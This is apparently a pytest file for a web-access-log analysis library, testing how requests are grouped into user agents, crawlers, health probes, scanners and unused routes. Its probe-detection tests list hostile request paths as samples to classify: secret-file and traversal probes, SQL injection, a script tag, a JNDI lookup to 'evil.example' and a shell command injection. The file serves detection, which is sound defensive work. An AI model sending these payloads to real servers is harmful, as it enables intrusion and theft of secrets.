"""Who asks, and what for: agents, crawlers, probes, scanners, and routes that nobody uses."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import polars as pl
import pytest

import envoylog
from envoylog.enrich.probing import probing
from envoylog.spec.probing_paths import PROBING_PATHS
from tests.questions.made import at, made, table

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{}.0.0.0 Safari/537.36"
)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)
GPT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def test_agents(tmp_path: Path) -> None:
    log = made(
        tmp_path,
        table(
            "downstream_remote_address user_agent",
            ("192.0.2.1:1", CHROME.format(126)),
            ("192.0.2.1:2", CHROME.format(126)),
            ("192.0.2.1:3", CHROME.format(125)),
            ("192.0.2.2:1", IPHONE),
            ("192.0.2.2:1", "Shop/5.2.1 (iPhone; iOS 17.5; Scale/3.00)"),
            ("192.0.2.3:1", "curl/8.5.0"),
            ("192.0.2.3:1", GPT),
            ("192.0.2.3:1", None),
            ("192.0.2.9:1", "kube-probe/1.29"),
        ),
    )
    # Five requests of people: clients are 2 Chromes of one address, an iPhone and an app.
    assert log.ask("agents").pl().rows() == [
        ("device", "desktop", 3, 0.6, 2, 0.5),
        ("device", "mobile", 2, 0.4, 2, 0.5),
        ("system", "Windows", 3, 0.6, 2, 0.5),
        ("system", "iOS", 2, 0.4, 2, 0.5),
        ("agent", "Chrome", 3, 0.6, 2, 0.5),
        ("agent", "Mobile Safari", 1, 0.2, 1, 0.25),
        ("agent", "Shop", 1, 0.2, 1, 0.25),
        ("version", "Chrome 126", 2, 0.4, 1, 0.25),
        ("version", "Chrome 125", 1, 0.2, 1, 0.25),
        ("version", "Mobile Safari 17", 1, 0.2, 1, 0.25),
        ("version", "Shop 5.2", 1, 0.2, 1, 0.25),
    ]
    top = log.ask("agents", limit=1).pl()
    assert top["value"].to_list() == ["desktop", "Windows", "Chrome", "Chrome 126"]


def test_crawlers(tmp_path: Path) -> None:
    log = made(
        tmp_path,
        table(
            "user_agent downstream_remote_address path response_code bytes_sent duration",
            (GPT, "192.0.2.1:1", "/a/1", 200, 100, 10),
            (GPT, "192.0.2.2:1", "/a/2", 404, 100, 10),
            (GPT, "192.0.2.2:1", "/b", 200, 200, 20),
            (GOOGLE, "192.0.2.3:1", "/b", 200, 100, 20),
            (CHROME.format(126), "192.0.2.4:1", "/b", 200, 300, 100),
            (None, "192.0.2.4:1", "/b", 200, 0, 40),
            ("kube-probe/1.29", "192.0.2.9:1", "/b", 200, 9999, 9999),
        ),
    )
    # Six requests, 800 bytes, 200 ms without the probe.
    assert log.ask("crawlers").pl().rows() == [
        ("llm_crawler", "GPTBot", 3, 3 / 6, 400, 0.5, 40, 0.2, 1 / 3, 2, 2),
        ("crawler", "Googlebot", 1, 1 / 6, 100, 0.125, 20, 0.1, 0.0, 1, 1),
    ]


def test_crawlers_of_a_log_without_bytes(tmp_path: Path) -> None:
    log = made(tmp_path, table("user_agent", (GPT,), ("curl/8.5.0",)))
    assert log.ask("crawlers").pl().rows() == [
        ("llm_crawler", "GPTBot", 1, 0.5, None, None, None, None, 0.0, 0, 0)
    ]


def test_probes(tmp_path: Path) -> None:
    log = made(
        tmp_path,
        table(
            "at user_agent path response_code downstream_remote_address",
            (0, "kube-probe/1.29", "/healthz", 200, "10.0.0.1:1"),
            (60, "kube-probe/1.29", "/healthz", 503, "10.0.0.2:1"),
            (120, "kube-probe/1.28", "/healthz", 0, "10.0.0.2:1"),
            (30, "curl/8.5.0", "/healthz", 200, "10.0.0.3:1"),
            (31, None, "/-/ready", 200, "10.0.0.3:1"),
            (32, CHROME.format(126), "/healthz", 200, "192.0.2.1:1"),
            (33, "curl/8.5.0", "/cart", 200, "192.0.2.1:1"),
            (34, None, "/cart", 200, "192.0.2.1:1"),
        ),
        authority="a.example",
    )
    # Eight requests over two minutes.
    assert log.ask("probes").pl().rows() == [
        ("kube-probe", "a.example", "/healthz", 3, 3 / 8, 1.5, 2, 2, at(120)),
        ("curl", "a.example", "/healthz", 1, 1 / 8, 0.5, 0, 1, at(30)),
        ("none", "a.example", "/-/ready", 1, 1 / 8, 0.5, 0, 1, at(31)),
    ]


def test_scanners(tmp_path: Path) -> None:
    many = table(
        "path response_code downstream_remote_address",
        *((f"/x{number}", 404, "192.0.2.3:1") for number in range(20)),
        *(("/cart", 200, "192.0.2.3:1") for _ in range(20)),
        *((f"/y{number}", 404, "192.0.2.4:1") for number in range(20)),
        *(("/cart", 200, "192.0.2.4:1") for _ in range(21)),  # 404s are not the half
        *(("/gone", 404, "192.0.2.5:1") for _ in range(50)),  # one broken link
    )
    few = table(
        "at path response_code downstream_remote_address user_agent",
        (1, "/.env", 404, "192.0.2.1:1", "a"),
        (2, "/.git/config", 200, "192.0.2.1:1", "b"),
        (3, "/q?id=1'+or+1=1", 200, "192.0.2.1:1", "b"),
        (4, "/cart", 200, "192.0.2.1:1", "c"),
        (5, "/", 200, "192.0.2.2:1", "Mozilla/5.0 zgrab/0.x"),
        (6, "/cart", 200, "192.0.2.6:1", "curl/8.5.0"),
    )
    rows = log = made(tmp_path, [*many, *few], user_agent=None).ask("scanners").pl()
    shown = rows.drop("first", "last").rows()
    assert shown == [
        ("192.0.2.1", 4, 3, 2, 1, 1, ["SQL injection", "secrets"], "/.env", "c"),
        ("192.0.2.3", 40, 0, 0, 20, 20, [], None, None),
        ("192.0.2.2", 1, 0, 0, 0, 0, [], None, "Mozilla/5.0 zgrab/0.x"),
    ]
    assert (log["first"][0], log["last"][0]) == (at(1), at(4))


def test_unused_routes(tmp_path: Path) -> None:
    day = 86_400
    log = made(
        tmp_path,
        table(
            "at path response_code user_agent downstream_remote_address",
            (0, "/old/1", 200, None, "192.0.2.1:1"),
            (day, "/old/2", 500, None, "192.0.2.2:1"),
            (8 * day, "/old/3", 404, None, "192.0.2.2:1"),  # not found is no use
            (8 * day, "/old/3", 200, GPT, "192.0.2.2:1"),  # nor is a crawler's visit
            (2 * day, "/older", 200, None, "192.0.2.2:1"),
            (1.5 * day, "/recent", 200, None, "192.0.2.2:1"),
            (8.5 * day, "/recent", 200, None, "192.0.2.2:1"),
            (8.5 * day, "/never-found", 404, None, "192.0.2.2:1"),
        ),
    )
    old = ("/old/{id}", 2, 2, at(0), at(day), 7.5)
    older = ("/older", 1, 1, at(2 * day), at(2 * day), 6.5)
    assert log.ask("unused-routes").pl().rows() == [old]
    quiet = log.ask("unused-routes", parameters={"quiet_for": "6d"})
    assert quiet.pl().rows() == [old, older]
    assert len(log.ask("unused-routes", parameters={"quiet_for": "6d"}, limit=1).pl()) == 1
    assert log.ask("unused-routes", parameters={"quiet_for": "10d"}).pl().is_empty()


def test_declared_routes_that_nobody_ever_called(tmp_path: Path) -> None:
    made(tmp_path, table("at path response_code", (0, "/users/1", 200)))
    declared = tmp_path / "api.yaml"
    declared.write_text("openapi: 3.0.0\npaths: {'/users/{id}': {}, /pets: {}}")
    with envoylog.open(tmp_path / "made.parquet", routes=declared) as log:
        rows = log.ask("unused-routes").pl().rows()
    assert rows == [("/pets", 0, 0, None, None, None)]


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("/.env", "secrets"),
        ("/.env.production", "secrets"),
        ("/api/.git/HEAD", "secrets"),
        ("/backup.sql", "secrets"),
        ("/environment", None),
        ("/.well-known/acme-challenge/x", None),
        ("/.well-known/security.txt", None),
        ("/wp-login.php", "WordPress"),
        ("/blog/wp-admin/", "WordPress"),
        ("/../../etc/passwd", "traversal"),
        ("/cgi-bin/%2e%2e/%2e%2e/bin/sh", "traversal"),
        ("/static/..%5c..%5cwindows/win.ini", "traversal"),
        ("/a/b..c/d", None),
        ("/v1.../x", None),
        ("/q?id=1%27%20OR%201=1--", "SQL injection"),
        ("/q?id=1+union+select+password", "SQL injection"),
        ("/q?id=1;waitfor%20delay%20%270:0:5%27", "SQL injection"),
        ("/search?q=the+union+of+selected+works", None),
        ("/search?q=O%27Brien+and+sons", None),
        ("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", "script injection"),
        ("/q?x=${jndi:ldap://evil.example/a}", "command injection"),
        ("/ping?host=127.0.0.1;cat%20/x", "command injection"),
        ("/cats;cat=1", None),
        ("/phpmyadmin/index.php", "PHP"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "PHP"),
        ("/actuator/env", "consoles"),
        ("/actuator/health", None),
        ("/cgi-bin/luci", "appliances"),
        ("/index.php", None),
        ("/users/7?full=1", None),
        ("*", None),
        (None, None),
    ],
)
def test_probing_paths(target: str | None, kind: str | None) -> None:
    assert probing(pl.Series([target], dtype=pl.String)).to_list() == [kind]


def test_every_kind_of_probing_has_evidence() -> None:
    assert all(row.evidence for row in PROBING_PATHS)


def test_the_samples_agree_with_pandas(istio_parquet: Path) -> None:
    """The generator of the samples sends kube-probe alone as a probe, and two crawlers."""
    rows = pd.read_parquet(istio_parquet)
    with envoylog.open(istio_parquet) as log:
        probe = log.ask("probes").df()
        crawlers = log.ask("crawlers", limit=0).df().set_index("agent_name")
        scanners = log.ask("scanners", limit=0).df()
    kube = rows["user_agent"] == "kube-probe/1.29"
    assert probe["requests"].tolist() == [kube.sum()]
    people = rows[~kube]
    for name, text in (("Googlebot", "Googlebot/2.1"), ("Bingbot", "bingbot/2.0")):
        own = people[people["user_agent"].str.contains(text, regex=False, na=False)]
        assert crawlers.loc[name, "requests"] == len(own)
        assert crawlers.loc[name, "share"] == pytest.approx(len(own) / len(people))
        assert crawlers.loc[name, "bytes_sent"] == own["bytes_sent"].sum()
        assert crawlers.loc[name, "time"] == own["duration"].sum()
        assert crawlers.loc[name, "error_share"] == pytest.approx(
            (own["response_code"] >= 400).mean()
        )
    looked_for = ("/.env", "/wp-login.php", "/cgi-bin/", "OR%201=1")
    asked = people["path"].map(lambda path: any(text in str(path) for text in looked_for))
    assert scanners["probing"].sum() == asked.sum()
